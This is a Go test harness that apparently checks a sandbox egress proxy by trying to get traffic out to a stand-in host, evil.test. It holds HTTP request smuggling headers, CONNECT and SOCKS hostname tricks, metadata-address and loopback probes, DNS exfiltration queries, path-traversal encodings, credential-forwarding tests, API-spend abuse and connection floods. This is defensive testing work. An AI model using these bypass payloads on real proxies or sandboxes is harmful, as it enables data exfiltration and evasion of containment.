package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync"
	"syscall"
	"time"
)

// outside is what out attacks: api.test lends a credential, open.test passes unread, drop.test and plain.test are listed
// in part, git.test for fetching, api.anthropic.com costs something, evil.test is not listed at all. All lead to one
// server; what it hears with "leak" in it should never have arrived, what it hears with "fine" should.
type outside struct {
	tls, plain  string // ports
	placeholder string
	client      *http.Client
	unread      *http.Client // for open.test, whose own certificate the sandbox sees, and does not know
}

const (
	proxyAddress = "127.0.0.1:18790"
	patience     = 8 * time.Second
)

// out tries every way out that is not listed, or those whose names begin as one of the further arguments: out TLS PLAIN
// [BEGINNING...]. The controls are always among them. Each line says what became of it and how long it took.
func out(args []string) {
	o := &outside{tls: args[0], plain: args[1], placeholder: os.Getenv("API_TOKEN"), client: &http.Client{Timeout: patience},
		unread: &http.Client{Timeout: patience, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}}
	cases := slices.DeleteFunc(o.cases(), func(c outCase) bool { return !chosen(c.name, args[2:]) })
	if len(args) > 2 && len(cases) <= controls {
		check(fmt.Errorf("no way out begins with %q", args[2:]))
	}
	for _, c := range cases {
		began := time.Now()
		said := make(chan string, 1)
		go func() { said <- c.try() }()
		var what string
		select {
		case what = <-said:
		case <-time.After(2 * patience):
			what = "HUNG"
		}
		fmt.Printf("OUT [%s] %.120s (%d ms)\n", c.name, strings.ReplaceAll(what, "\n", " "), time.Since(began).Milliseconds())
	}
	fmt.Printf("cases: %d\n", len(cases))
}

// controls is how many ways out are listed: all that begin with "control".
const controls = 6

func chosen(name string, beginnings []string) bool {
	return len(beginnings) == 0 || slices.ContainsFunc(append(beginnings, "control"), func(b string) bool { return strings.HasPrefix(name, b) })
}

type outCase struct {
	name string
	try  func() string
}

func (o *outside) cases() (all []outCase) {
	add := func(name string, try func() string) { all = append(all, outCase{name, try}) }
	bearer := "Bearer " + o.placeholder

	// Controls: what is listed arrives, or none of the rest says anything.
	add("control api", func() string {
		return o.ask("GET", "https://api.test:"+o.tls+"/v1/fine-api", "", "Authorization", bearer)
	})
	add("control open", func() string {
		return o.ask("POST", "https://open.test:"+o.tls+"/fine-open", "x", "Authorization", "Basic bWU6bWU=")
	})
	add("control drop", func() string { return o.ask("GET", "https://drop.test:"+o.tls+"/ok/fine-drop", "") })
	add("control plain", func() string { return o.ask("GET", "http://plain.test:"+o.plain+"/ok/fine-plain", "") })
	add("control git", func() string {
		return o.ask("GET", "https://git.test:"+o.tls+"/r.git/info/refs?service=git-upload-pack", "")
	})

	// Names with more than one meaning, to a proxy.
	for i, name := range []string{"open.test@evil.test", "evil.test%00.open.test", "evil.test#.open.test", "evil.test/.open.test", "evil.test\\.open.test", "evil.test\u3002", "evil.test;open.test",
		"2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.0.1", "[::ffff:127.0.0.1]", "[::1]", "[::]", "0.0.0.0", "localhost", "evil.test", "EVIL.test.", "open.test.evil.test", "169.254.169.254"} {
		add("connect "+name, func() string { return o.connect(name+":"+o.tls, fmt.Sprint("leak-connect-", i)) })
	}
	add("connect no port", func() string { return o.connect("evil.test", "leak-noport") })
	add("absolute https", func() string {
		return o.raw(proxyAddress, "GET https://evil.test:"+o.tls+"/leak-absolute HTTP/1.1\r\nHost: open.test\r\n\r\n")
	})
	add("absolute user info", func() string {
		return o.raw(proxyAddress, "GET http://plain.test:x@evil.test:"+o.plain+"/ok/leak-userinfo HTTP/1.1\r\nHost: plain.test\r\n\r\n")
	})
	add("absolute other host", func() string {
		return o.raw(proxyAddress, "GET http://evil.test:"+o.plain+"/ok/leak-host HTTP/1.1\r\nHost: plain.test:"+o.plain+"\r\n\r\n")
	})
	add("socks name", func() string { return o.socks(3, append([]byte{9}, "evil.test"...)) })
	add("socks address", func() string { return o.socks(1, []byte{127, 0, 0, 1}) })

	// What the connection, TLS and the request say.
	add("sni is not the connection's", func() string {
		return o.inTLS("open.test", "evil.test", "GET /leak-sni HTTP/1.1\r\nHost: evil.test\r\n\r\n")
	})
	add("no sni", func() string { return o.inTLS("open.test", "", "GET /leak-nosni HTTP/1.1\r\nHost: evil.test\r\n\r\n") })
	add("host is not the connection's", func() string {
		return o.inTLS("api.test", "api.test", "GET /v1/leak-fronting HTTP/1.1\r\nHost: drop.test:"+o.tls+"\r\nAuthorization: "+bearer+"\r\n\r\n")
	})
	add("absolute form in tls", func() string {
		return o.inTLS("api.test", "api.test", "GET https://evil.test:"+o.tls+"/v1/leak-absform HTTP/1.1\r\nHost: api.test:"+o.tls+"\r\nAuthorization: "+bearer+"\r\n\r\n")
	})
	add("connect in tls", func() string {
		return o.inTLS("api.test", "api.test", "CONNECT evil.test:"+o.tls+" HTTP/1.1\r\nHost: evil.test:"+o.tls+"\r\n\r\n")
	})
	add("http to a tls rule", func() string {
		return o.raw("open.test:"+o.tls, "GET /leak-cleartext HTTP/1.1\r\nHost: open.test\r\n\r\n")
	})
	add("a huge hello", func() string {
		return o.raw("open.test:"+o.tls, "\x16\x03\x01\xff\xff\x01\x00\xff\xfb\x03\x03"+strings.Repeat("leak-hello", 7000))
	})

	// Addresses.
	for _, to := range []string{"203.0.113.9", "[2001:db8::9]", "169.254.169.254", "10.0.0.1", "198.18.200.200", "198.19.3.3"} {
		add("address "+to, func() string {
			return o.raw(to+":"+o.plain, "GET /ok/leak-address HTTP/1.1\r\nHost: plain.test:"+o.plain+"\r\n\r\n")
		})
	}
	add("own loopback", func() string {
		return o.raw("127.0.0.1:"+o.plain, "GET /ok/leak-loopback HTTP/1.1\r\nHost: plain.test\r\n\r\n")
	})

	// Questions for names, and UDP.
	for _, server := range []string{"127.0.0.53:53", "8.8.8.8:53", "[2001:4860:4860::8888]:53"} {
		add("dns txt "+server, func() string { return o.question(server, "c2VjcmV0.leak.evil.test", 16) })
		add("dns a "+server, func() string { return o.question(server, "c2VjcmV0.leak.evil.test", 1) })
	}
	add("dns below a listed name", func() string { return o.question("8.8.8.8:53", "leak.open.test", 1) })
	add("dns over tcp", func() string {
		return o.raw("8.8.8.8:53", "\x00\x1d\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x00\x00\x01\x00\x01")
	})
	add("quic", func() string { return o.udp("open.test:" + o.tls) })
	add("udp", func() string { return o.udp("8.8.8.8:9999") })

	// Requests that are another one to somebody.
	for i, head := range []string{"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n", "Content-Length: 0\r\nContent-Length: 44\r\n", "Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n",
		"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "Transfer-Encoding:\tchunked\r\n"} {
		inner := fmt.Sprintf("0\r\n\r\nGET /leak-smuggled-%d HTTP/1.1\r\nHost: plain.test\r\n\r\n", i)
		add(fmt.Sprintf("smuggling %d", i), func() string {
			return o.raw("plain.test:"+o.plain, "POST /ok/fine-smuggler HTTP/1.1\r\nHost: plain.test:"+o.plain+"\r\n"+head+"\r\n"+inner)
		})
		add(fmt.Sprintf("smuggling %d in tls", i), func() string {
			return o.inTLS("api.test", "api.test", "POST /v1/fine-smuggler HTTP/1.1\r\nHost: api.test:"+o.tls+"\r\nAuthorization: "+bearer+"\r\n"+head+"\r\n"+inner)
		})
	}
	for _, path := range []string{"/ok/../leak-dots", "/ok/%2e%2e/leak-dots", "/ok/..%2fleak-dots", "/ok%2f..%2fleak-dots", "//leak-empty", "/ok\\..\\leak-back", "/leak-elsewhere", "/ok/x/leak-deeper", "/ok/%252e%252e/leak-twice"} {
		add("path "+path, func() string {
			return o.raw("plain.test:"+o.plain, "GET "+path+" HTTP/1.1\r\nHost: plain.test:"+o.plain+"\r\n\r\n")
		})
	}
	for _, method := range []string{"DELETE", "PATCH", "get", "TRACE", "OPTIONS"} {
		add("method "+method, func() string { return o.ask(method, "https://drop.test:"+o.tls+"/ok/leak-method", "") })
	}
	add("override headers", func() string {
		return o.ask("GET", "https://drop.test:"+o.tls+"/ok/fine-override", "", "X-HTTP-Method-Override", "leak", "X-Original-URL", "/leak", "X-Forwarded-Host", "leak")
	})
	add("upgrade h2c", func() string {
		return o.ask("GET", "https://drop.test:"+o.tls+"/ok/leak-h2c", "", "Connection", "Upgrade", "Upgrade", "h2c")
	})
	add("websocket", func() string {
		return o.ask("GET", "https://drop.test:"+o.tls+"/ok/leak-websocket", "", "Connection", "Upgrade", "Upgrade", "websocket", "Sec-WebSocket-Key", "AAAAAAAAAAAAAAAAAAAAAA==", "Sec-WebSocket-Version", "13")
	})

	// Pushes.
	add("receive-pack", func() string { return o.ask("POST", "https://git.test:"+o.tls+"/r.git/git-receive-pack", "leak-push") })
	add("receive-pack refs", func() string {
		return o.ask("GET", "https://git.test:"+o.tls+"/r.git/info/refs?service=git-receive-pack&leak", "")
	})
	add("receive-pack plain", func() string {
		return o.ask("POST", "http://plain.test:"+o.plain+"/ok/git-receive-pack?leak", "leak-push")
	})
	add("another repository", func() string {
		return o.ask("GET", "https://git.test:"+o.tls+"/leak.git/info/refs?service=git-upload-pack", "")
	})
	add("mutation", func() string {
		return o.ask("POST", "https://api.github.com:"+o.tls+"/graphql", `{"query":"mutation { leak }"}`)
	})
	add("pull request", func() string { return o.ask("POST", "https://api.github.com:"+o.tls+"/repos/a/b/pulls?leak", `{}`) })

	// Whose identity.
	add("placeholder to another host", func() string {
		return o.ask("GET", "https://drop.test:"+o.tls+"/ok/leak-placeholder", "", "Authorization", bearer)
	})
	add("placeholder in an address", func() string { return o.ask("GET", "https://drop.test:"+o.tls+"/ok/leak-query?k="+o.placeholder, "") })
	add("placeholder in the clear", func() string {
		return o.ask("GET", "http://plain.test:"+o.plain+"/ok/leak-clear", "", "Authorization", bearer)
	})
	add("no placeholder", func() string { return o.ask("GET", "https://api.test:"+o.tls+"/v1/leak-anonymous", "") })
	add("another login", func() string {
		return o.ask("GET", "https://api.test:"+o.tls+"/v1/leak-login", "", "Authorization", "Bearer stolen-from-somebody-else")
	})
	add("a cookie beside", func() string {
		return o.ask("GET", "https://api.test:"+o.tls+"/v1/leak-cookie", "", "Authorization", bearer, "Cookie", "session=mine")
	})
	add("a key beside", func() string {
		return o.ask("GET", "https://api.test:"+o.tls+"/v1/leak-key", "", "Authorization", bearer, "X-Api-Key", "mine")
	})
	add("a token in the query", func() string {
		return o.ask("GET", "https://api.test:"+o.tls+"/v1/leak-token?access_token=mine", "", "Authorization", bearer)
	})
	add("a login in the body", func() string {
		return o.ask("POST", "https://api.test:"+o.tls+"/v1/leak-body", `{"username":"me","password":"mine"}`, "Authorization", bearer, "Content-Type", "application/json")
	})
	add("redirect with placeholder", func() string {
		return o.ask("GET", "https://api.test:"+o.tls+"/v1/redirect?to=https://drop.test:"+o.tls+"/ok/fine-redirected", "", "Authorization", bearer)
	})
	add("redirect to a stranger", func() string {
		return o.ask("GET", "https://open.test:"+o.tls+"/redirect?to=https://evil.test:"+o.tls+"/redirected", "")
	})
	add("echo", func() string {
		got := o.ask("GET", "https://api.test:"+o.tls+"/v1/echo", "", "Authorization", bearer)
		if strings.Contains(got, "real-secret") {
			won("saw the credential: %s", got)
		}
		return got
	})

	// What costs something.
	model := func(body string, header ...string) string {
		return o.ask("POST", "https://api.anthropic.com:"+o.tls+"/v1/messages", body, append([]string{"X-Api-Key", "mine", "Content-Type", "application/json"}, header...)...)
	}
	message := func(extra string) string {
		return `{"model":"claude-haiku-4-5","max_tokens":1000,"messages":[{"role":"user","content":"hi"}]` + extra + `}`
	}
	add("spend: unknown model", func() string { return model(strings.Replace(message(`,"metadata":{}`), "haiku-4-5", "leak-9", 1)) })
	add("spend: a key twice", func() string { return model(message(`,"max_tokens":999999,"x-leak":1`)) })
	add("spend: more than is left", func() string {
		return model(strings.Replace(message(`,"stop_sequences":["leak"]`), "1000", "60000", 1))
	})
	add("spend: server tools", func() string {
		return model(message(`,"tools":[{"type":"web_search_20250305","name":"web_search","leak":1}]`))
	})
	add("spend: compressed", func() string {
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		_, _ = io.WriteString(z, message(`,"leak":1`))
		_ = z.Close()
		return model(b.String(), "Content-Encoding", "gzip")
	})
	add("spend: chunked", func() string { return o.chunked(message(`,"max_tokens":60000,"stop_sequences":["leak"]`)) })
	add("spend: other spelling", func() string {
		return o.ask("POST", "https://api.anthropic.com:"+o.tls+"/v1/Messages?leak", message(""))
	})
	add("spend: by websocket", func() string { return model("", "Connection", "Upgrade", "Upgrade", "websocket") })
	// The answers have no usage, and are cut: each counts in full, so that few pass.
	add("spend: a storm", func() string { return o.storm(60, func() string { return model(message("")) }) })

	// Too much.
	add("endless headers", func() string {
		return o.raw("plain.test:"+o.plain, "GET /ok/leak-headers HTTP/1.1\r\nHost: plain.test\r\n"+strings.Repeat("X-Leak: "+strings.Repeat("a", 1000)+"\r\n", 2000)+"\r\n")
	})
	add("retries", func() string {
		return o.storm(400, func() string { return o.ask("GET", "https://evil.test:"+o.tls+"/leak-retry", "") })
	})
	add("a thousand connections", func() string { return o.crowd(1000) })
	add("control afterwards", func() string {
		return o.ask("GET", "https://api.test:"+o.tls+"/v1/fine-afterwards", "", "Authorization", bearer)
	})
	return all
}

// ask sends one request as a usual client, redirects followed.
func (o *outside) ask(method, url, body string, header ...string) string {
	r, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		return err.Error()
	}
	for i := 0; i+1 < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	client := o.client
	if r.URL.Hostname() == "open.test" {
		client = o.unread
	}
	res, err := client.Do(r)
	if err != nil {
		return err.Error()
	}
	defer res.Body.Close()
	b, err := io.ReadAll(io.LimitReader(res.Body, 4<<10))
	if err != nil {
		return fmt.Sprint(res.StatusCode, " cut: ", err)
	}
	return fmt.Sprint(res.StatusCode, " ", string(b))
}

func (o *outside) chunked(body string) string {
	r, err := http.NewRequest("POST", "https://api.anthropic.com:"+o.tls+"/v1/messages", io.MultiReader(strings.NewReader(body)))
	if err != nil {
		return err.Error()
	}
	r.Header.Set("X-Api-Key", "mine")
	res, err := o.client.Do(r)
	if err != nil {
		return err.Error()
	}
	defer res.Body.Close()
	return res.Status
}

// raw sends bytes as they are and says how the answer begins.
func (o *outside) raw(addr, bytes string) string {
	c, err := net.DialTimeout("tcp", addr, patience)
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	_, _ = io.WriteString(c, bytes)
	b, err := io.ReadAll(io.LimitReader(c, 4<<10))
	return fmt.Sprintf("%.80q %v", b, err)
}

// connect asks the proxy for a tunnel and, if there is one, speaks through it.
func (o *outside) connect(target, marker string) string {
	c, err := net.DialTimeout("tcp", proxyAddress, patience)
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target)
	res, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: "CONNECT"})
	if err != nil {
		return err.Error()
	}
	if res.StatusCode != 200 {
		return res.Status
	}
	t := tls.Client(c, &tls.Config{ServerName: "evil.test", InsecureSkipVerify: true})
	_, err = fmt.Fprintf(t, "GET /%s HTTP/1.1\r\nHost: evil.test\r\n\r\n", marker)
	return fmt.Sprint("opened; ", err)
}

func (o *outside) socks(kind byte, address []byte) string {
	c, err := net.DialTimeout("tcp", proxyAddress, patience)
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	var port [2]byte
	n := number(o.plain)
	binary.BigEndian.PutUint16(port[:], uint16(n))
	_, _ = c.Write(append(append([]byte{5, 1, 0, 5, 1, 0, kind}, address...), port[:]...))
	_, _ = io.WriteString(c, "GET /leak-socks HTTP/1.1\r\nHost: plain.test\r\n\r\n")
	b, err := io.ReadAll(io.LimitReader(c, 100))
	return fmt.Sprintf("%q %v", b, err)
}

// inTLS opens a connection to one name, TLS as another, and sends bytes.
func (o *outside) inTLS(name, sni, bytes string) string {
	c, err := net.DialTimeout("tcp", name+":"+o.tls, patience)
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	t := tls.Client(c, &tls.Config{ServerName: sni, InsecureSkipVerify: true})
	if err := t.Handshake(); err != nil {
		return err.Error()
	}
	_, _ = io.WriteString(t, bytes)
	_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
	b, err := io.ReadAll(io.LimitReader(t, 4<<10))
	return fmt.Sprintf("%.80q %v", b, err)
}

// question asks a DNS server and says the answer's code.
func (o *outside) question(server, name string, kind uint16) string {
	c, err := net.DialTimeout("udp", server, patience)
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		q = append(append(q, byte(len(label))), label...)
	}
	q = append(q, 0, byte(kind>>8), byte(kind), 0, 1)
	if _, err := c.Write(q); err != nil {
		return err.Error()
	}
	var b [512]byte
	n, err := c.Read(b[:])
	if err != nil || n < 12 {
		return fmt.Sprint(n, " ", err)
	}
	if code := b[3] & 15; code == 3 {
		return "NXDOMAIN"
	} else if answers := binary.BigEndian.Uint16(b[6:]); code == 0 && answers > 0 {
		won("an answer for %s", name)
	}
	return fmt.Sprint("code ", b[3]&15)
}

// udp says whether a datagram is refused at once.
func (o *outside) udp(addr string) string {
	c, err := net.DialTimeout("udp", addr, patience)
	if err != nil {
		return err.Error()
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	for range 3 {
		if _, err = c.Write([]byte("leak")); err == nil {
			_, err = c.Read(make([]byte, 10))
		}
		if errors.Is(err, syscall.ECONNREFUSED) {
			return "ECONNREFUSED"
		}
	}
	return fmt.Sprint(err)
}

// storm does the same many times at once and says what came of it.
func (o *outside) storm(n int, do func() string) string {
	var mu sync.Mutex
	said := map[string]int{}
	var wg sync.WaitGroup
	slots := make(chan struct{}, 20)
	for range n {
		slots <- struct{}{}
		wg.Go(func() {
			got := do()
			<-slots
			mu.Lock()
			defer mu.Unlock()
			said[got[:min(len(got), 3)]]++
		})
	}
	wg.Wait()
	b, _ := json.Marshal(said)
	return string(b)
}

// crowd holds many connections that say nothing, and ends them.
func (o *outside) crowd(n int) string {
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	var open []net.Conn
	for range n {
		c, err := new(net.Dialer).DialContext(ctx, "tcp", "open.test:"+o.tls)
		if err != nil {
			break
		}
		open = append(open, c)
	}
	for _, c := range open {
		_ = c.Close()
	}
	return fmt.Sprint(len(open))
}
